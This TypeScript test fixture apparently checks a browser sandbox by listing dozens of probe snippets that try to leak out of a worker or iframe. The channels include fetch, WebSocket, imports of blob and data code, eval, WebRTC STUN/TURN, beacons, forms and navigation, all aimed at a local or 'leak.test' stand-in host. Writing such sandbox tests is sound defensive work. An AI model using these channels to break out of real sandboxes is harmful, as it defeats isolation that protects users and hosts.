/**
 * Code that tries to get something out: the body of an async function of `port`, `udp`, the host's `page`, and
 * `name`, a unique word.
 */
export type Probe = readonly [what: string, code: string];

const url = '`http://127.0.0.1:${port}/${name}`';
const named = '`http://${name}.leak.test:${port}/`';

/** Waits for one of a target's events, or a while. */
const settled = (target: string, ...events: readonly string[]): string =>
  `await new Promise((done) => { for (const type of ${JSON.stringify(events)}) (${target}).addEventListener(type, done); setTimeout(done, 300); });`;

/** What runs in the worker, as every tool does. */
export const WORKER_PROBES: readonly Probe[] = [
  ['fetch', `await fetch(${url});`],
  ['fetch by a name', `await fetch(${named});`],
  ['fetch without CORS', `await fetch(${url}, { mode: 'no-cors', keepalive: true });`],
  ['fetch of the page', `await fetch(page); return 'read';`],
  [
    'XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('GET', ${url}); x.send(); ${settled('x', 'loadend')}`,
  ],
  ['synchronous XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', ${url}, false); x.send();`],
  ['WebSocket', `const s = new WebSocket(${url}.replace('http', 'ws')); ${settled('s', 'error', 'open')}`],
  ['WebSocketStream', `await new WebSocketStream(${url}.replace('http', 'ws')).opened;`],
  ['EventSource', `const s = new EventSource(${url}); ${settled('s', 'error', 'open')} s.close();`],
  ['WebTransport', `await new WebTransport(${url}.replace('http:', 'https:')).ready;`],
  ['importScripts', `importScripts(${url});`],
  ['importScripts from a blob', `importScripts(URL.createObjectURL(new Blob(['postMessage("x")'])));`],
  [
    'importScripts from data',
    `importScripts('data:text/javascript,globalThis.got = 1'); if (globalThis.got) return 'ran';`,
  ],
  ['import()', `await import(${url});`],
  // Chromium runs code of such addresses, which can do no more than the rest.
  [
    'import() of data that imports',
    `await import('data:text/javascript,import ' + JSON.stringify(${url})); return 'ran';`,
  ],
  [
    'import() of data that fetches',
    `await import('data:text/javascript,await fetch(' + JSON.stringify(${url}) + ')'); return 'ran';`,
  ],
  [
    'import() of a blob',
    `await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))); return 'ran';`,
  ],
  ['worker', `const w = new Worker(${url}); ${settled('w', 'error', 'message')}`],
  [
    'worker of a blob that fetches',
    `const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(${url}) + ').finally(() => postMessage(1))']))); ${settled('w', 'error', 'message')}`,
  ],
  [
    'module worker of a blob',
    `const w = new Worker(URL.createObjectURL(new Blob(['import(' + JSON.stringify(${url}) + ').finally(() => postMessage(1))'], { type: 'text/javascript' })), { type: 'module' }); ${settled('w', 'error', 'message')}`,
  ],
  ['shared worker', `new SharedWorker(${url});`],
  ['service worker', `await navigator.serviceWorker.register(${url});`],
  ['font', `await new FontFace('x', 'url(' + ${url} + ')').load();`],
  ['cache', `await (await caches.open('x')).add(${url});`],
  ['streamed WebAssembly', `await WebAssembly.compileStreaming(fetch(${url}));`],
  ['beacon', `navigator.sendBeacon(${url}, 'x');`],
  ['fetchLater', `fetchLater(${url}, { activateAfter: 0 });`],
  [
    'peer connection',
    `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] }); c.createDataChannel('x'); await c.setLocalDescription(); ${settled('c', 'icecandidateerror')}`,
  ],
  ['navigation', `location.href = ${url}; location.assign(${url});`],
  ['window', `open(${url});`],
  ['eval', `(0, eval)('1'); return 'ran';`],
  ['function of a string', `new Function('return 1')(); return 'ran';`],
  [
    'timer of a string',
    `setTimeout('globalThis.late = 1', 0); await new Promise((done) => setTimeout(done, 20)); if (globalThis.late) return 'ran';`,
  ],
  [
    'database',
    `await new Promise((done, fail) => { const open = indexedDB.open('x'); open.onsuccess = done; open.onerror = () => fail(open.error); }); return 'stored';`,
  ],
  ['cookies', `await cookieStore.set('x', '1'); return 'stored';`],
  ['file system', `await navigator.storage.getDirectory(); return 'stored';`],
  ['storage', `localStorage.setItem('x', '1'); return 'stored';`],
  ['document', `document.title = 'x'; return 'reached';`],
  ['parent', `parent.postMessage('x', '*'); return 'reached';`],
  ['clipboard', `await navigator.clipboard.writeText('x'); return 'reached';`],
  ['notification', `await Notification.requestPermission(); new Notification('x'); return 'reached';`],
  ['devices', `await navigator.usb.requestDevice({ filters: [] }); return 'reached';`],
];

const append = (tag: string, fields: string): string =>
  `const e = Object.assign(document.createElement('${tag}'), ${fields}); document.documentElement.append(e); ${settled('e', 'load', 'error')}`;

/** What runs in the frame itself, as if code had got out of the worker. */
export const FRAME_PROBES: readonly Probe[] = [
  ['fetch', `await fetch(${url});`],
  ['image', append('img', `{ src: ${url} }`)],
  ['script', append('script', `{ src: ${url} }`)],
  [
    'inline script',
    `const e = Object.assign(document.createElement('script'), { textContent: 'globalThis.got = 1' }); document.documentElement.append(e); if (globalThis.got) return 'ran';`,
  ],
  ['style sheet', append('link', `{ rel: 'stylesheet', href: ${url} }`)],
  [
    'style',
    `const e = Object.assign(document.createElement('style'), { textContent: '@import url(' + ${url} + ')' }); document.documentElement.append(e); ${settled('e', 'load', 'error')}`,
  ],
  ['prefetch', append('link', `{ rel: 'prefetch', href: ${url} }`)],
  ['preload', append('link', `{ rel: 'preload', as: 'fetch', href: ${url} }`)],
  ['preconnect', append('link', `{ rel: 'preconnect', href: ${url} }`)],
  ['DNS prefetch', append('link', `{ rel: 'dns-prefetch', href: ${named} }`)],
  ['manifest', append('link', `{ rel: 'manifest', href: ${url} }`)],
  ['frame', append('iframe', `{ src: ${url} }`)],
  ['object', append('object', `{ data: ${url} }`)],
  ['embed', append('embed', `{ src: ${url} }`)],
  ['video', append('video', `{ src: ${url} }`)],
  [
    'SVG image',
    `const e = document.createElementNS('http://www.w3.org/2000/svg', 'image'); e.setAttribute('href', ${url}); document.documentElement.append(e); ${settled('e', 'load', 'error')}`,
  ],
  [
    'form',
    `const e = Object.assign(document.createElement('form'), { action: ${url} }); document.documentElement.append(e); e.submit(); ${settled('e', 'submit')}`,
  ],
  [
    'ping',
    `const e = Object.assign(document.createElement('a'), { href: '#x', ping: ${url} }); document.documentElement.append(e); e.click();`,
  ],
  ['beacon', `navigator.sendBeacon(${url}, 'x');`],
  ['WebSocket', `const s = new WebSocket(${url}.replace('http', 'ws')); ${settled('s', 'error', 'open')}`],
  ['EventSource', `const s = new EventSource(${url}); ${settled('s', 'error', 'open')} s.close();`],
  [
    'peer connection',
    `const c = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:' + udp, 'turn:127.0.0.1:' + port + '?transport=tcp'], username: 'x', credential: 'x' }] }); c.createDataChannel('x'); await c.setLocalDescription(); ${settled('c', 'icecandidateerror')}`,
  ],
  [
    'peer connection by a name',
    `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + name + '.leak.test:' + udp }] }); c.createDataChannel('x'); await c.setLocalDescription(); ${settled('c', 'icecandidateerror')}`,
  ],
  ['window', `open(${url});`],
  ['navigation', `location.href = ${url};`],
  ['navigation by a name', `location.href = ${named};`],
  [
    'refresh',
    `const e = document.createElement('meta'); e.httpEquiv = 'refresh'; e.content = '0; url=' + ${url}; document.documentElement.append(e);`,
  ],
  [
    'link',
    `const e = Object.assign(document.createElement('a'), { href: ${url} }); document.documentElement.append(e); e.click();`,
  ],
  ['navigation of the page', `top.location.href = ${url};`],
  ['document of the page', `parent.document.title = 'x'; return 'reached';`],
  ['storage', `localStorage.setItem('x', '1'); return 'stored';`],
  ['shared worker', `new SharedWorker(${url});`],
  ['worklet', `await CSS.paintWorklet.addModule(${url});`],
];

/** What two workers of one provider could do: hear each other. */
export const CHANNEL_PROBES: readonly Probe[] = [
  [
    'hear',
    `const c = new BroadcastChannel('x'); return new Promise((done) => { c.onmessage = () => done('heard'); setTimeout(done, 500, 'nothing'); });`,
  ],
  [
    'shout',
    `const c = new BroadcastChannel('x'); for (let n = 0; n < 5; n++) { c.postMessage(n); await new Promise((done) => setTimeout(done, 50)); }`,
  ],
];
